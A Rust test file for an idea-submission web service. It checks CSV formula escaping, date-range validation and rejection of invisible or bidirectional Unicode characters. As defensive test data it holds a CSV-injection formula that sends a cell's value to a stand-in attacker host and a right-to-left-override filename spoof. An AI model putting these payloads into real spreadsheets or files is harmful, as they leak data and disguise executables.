//! Input and output that cannot hurt: formulas in CSV cells, dates far outside any sane
//! range, invisible and direction-changing characters.

use serde_json::json;

use crate::assessment_support::builtin_id;
use crate::both_backends;
use crate::helpers::TestApp;
use crate::ideas::{id_of, idea_body, submit};

both_backends!(
    csv_cells_never_start_a_formula,
    dates_outside_the_accepted_range_are_refused,
    invisible_and_direction_characters_are_refused,
);

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Details\")";

async fn csv_cells_never_start_a_formula(app: &TestApp) {
    let unit = app.create_unit("@Bürgeramt", None).await;
    let employee = app.user("employee", Some(&unit)).await;
    let manager = app.user("manager", None).await;
    let idea = id_of(&submit(app, &employee, idea_body(&unit, FORMULA)).await);
    // Waiting long enough to be listed as stuck.
    let long_ago = (chrono::Utc::now() - chrono::Duration::days(40))
        .naive_utc()
        .format("%Y-%m-%d %H:%M:%S%.6f");
    let pool = app.pool.clone();
    tokio::task::spawn_blocking(move || {
        use diesel::RunQueryDsl;
        let mut conn = pool.get().unwrap();
        diesel::sql_query(format!(
            "UPDATE ideas SET stage_entered_at = '{long_ago}' WHERE id = '{idea}'"
        ))
        .execute(&mut *conn)
        .unwrap();
    })
    .await
    .unwrap();
    for table in ["stuck", "units"] {
        let r = app
            .get(
                &format!("/api/v1/reports/pipeline?format=csv&table={table}"),
                &manager.token,
            )
            .await;
        assert_eq!(r.status.as_u16(), 200);
        let mut reader = csv::ReaderBuilder::new().from_reader(r.text.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{table}: a cell starts a formula: {cell:?}"
                );
            }
        }
        assert!(cells > 0);
    }
    let stuck = app
        .get("/api/v1/reports/pipeline?format=csv&table=stuck", &manager.token)
        .await;
    assert!(
        stuck.text.contains(&format!("'{}", FORMULA.replace('"', "\"\""))),
        "{}",
        stuck.text
    );
    let units = app
        .get("/api/v1/reports/pipeline?format=csv&table=units", &manager.token)
        .await;
    assert!(units.text.contains("'@Bürgeramt"), "{}", units.text);
}

async fn dates_outside_the_accepted_range_are_refused(app: &TestApp) {
    let employee = app.user("employee", None).await;
    for (query, field) in [
        ("created_from=-4714-11-24", "created_from"),
        ("created_to=-4800-01-01", "created_to"),
        ("created_from=1969-12-31", "created_from"),
        ("created_to=2200-01-01T00:00:00Z", "created_to"),
    ] {
        let r = app.get(&format!("/api/v1/ideas?{query}"), &employee.token).await;
        r.expect(422);
        assert_eq!(r.error_fields(), vec![field], "{query}");
    }
    app.get(
        "/api/v1/ideas?created_from=2026-01-01&created_to=2199-12-31",
        &employee.token,
    )
    .await
    .expect(200);
    // A cursor is opaque, but it comes from the client.
    let cursor = {
        use base64::Engine;
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(r#"{"s":["-200000-01-01T00:00:00","x"]}"#)
    };
    let r = app
        .get(
            &format!("/api/v1/ideas?sort=longest_in_stage&cursor={cursor}"),
            &employee.token,
        )
        .await;
    assert_eq!(r.status.as_u16(), 400, "{}", r.text);

    // Rounds in the year 200000 or before 1970.
    let qid = builtin_id(app, &app.admin.token).await;
    for (closes_at, opens_at) in [
        ("+200000-01-01T00:00:00Z", None),
        ("2027-01-01T00:00:00Z", Some("-0001-01-01T00:00:00Z")),
        ("2200-06-01T00:00:00Z", None),
    ] {
        let mut body = json!({"questionnaire_id": qid, "title": "Weit weg", "closes_at": closes_at});
        if let Some(o) = opens_at {
            body["opens_at"] = json!(o);
        }
        let r = app.post("/api/v1/assessments", &app.admin.token, body).await;
        assert!(
            r.status.as_u16() == 422 || r.status.as_u16() == 400,
            "{closes_at}: {}",
            r.text
        );
        assert!(r.status.as_u16() < 500);
    }
    let listed = app.get("/api/v1/assessments", &app.admin.token).await;
    assert_eq!(
        listed.expect(200)["items"].as_array().unwrap().len(),
        0,
        "nothing stored"
    );
}

async fn invisible_and_direction_characters_are_refused(app: &TestApp) {
    let unit = app.create_unit("Bauamt", None).await;
    let employee = app.user("employee", Some(&unit)).await;
    for title in [
        "Rechnung\u{202E}fdp.exe",
        "Null\u{200B}breite",
        "Isolat\u{2066}x\u{2069}",
    ] {
        let r = app
            .post("/api/v1/ideas", &employee.token, idea_body(&unit, title))
            .await;
        r.expect(422);
        // (The test body repeats the title in the proposal.)
        assert_eq!(r.error_fields(), vec!["title", "proposal"]);
        assert!(r.text.contains("U+"), "{}", r.text);
    }
    let mut body = idea_body(&unit, "Sichtbar");
    body["proposal"] = json!("Vorschlag mit \u{202D}Umkehrung");
    let r = app.post("/api/v1/ideas", &employee.token, body).await;
    r.expect(422);
    assert_eq!(r.error_fields(), vec!["proposal"]);
    let idea = id_of(&submit(app, &employee, idea_body(&unit, "Sichtbar")).await);
    let r = app
        .post(
            &format!("/api/v1/ideas/{idea}/comments"),
            &employee.token,
            json!({"body": "Kommentar\u{FEFF}"}),
        )
        .await;
    r.expect(422);
    let r = app
        .post("/api/v1/units", &app.admin.token, json!({"name": "Amt\u{2067}"}))
        .await;
    r.expect(422);
    let r = app
        .post(
            "/api/v1/users",
            &app.admin.token,
            json!({"email": "a\u{200E}@test.local", "display_name": "Name\u{200F}", "role": "employee"}),
        )
        .await;
    r.expect(422);
    let mut fields = r.error_fields();
    fields.sort();
    assert_eq!(fields, vec!["display_name", "email"]);
}
